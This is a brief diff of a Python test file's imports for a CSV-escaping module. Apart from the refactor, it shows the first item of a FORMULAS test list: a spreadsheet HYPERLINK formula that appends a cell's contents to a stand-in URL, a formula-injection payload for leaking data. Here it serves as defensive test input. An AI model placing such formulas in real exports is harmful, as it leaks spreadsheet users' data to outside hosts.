@@ -10,9 +10,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from focus_ray.csv_cells import csv_cell, csv_text
+from focus_ray.csv_tables import COLUMNS, csv_cell, csv_text, table_text
 from focus_ray.data.importers.groups import _pairs_of_csv
-from focus_ray.evaluation.table import COLUMNS, table_text
 
 FORMULAS = [
     "=HYPERLINK(\"https://example.org?\"&A1).png",
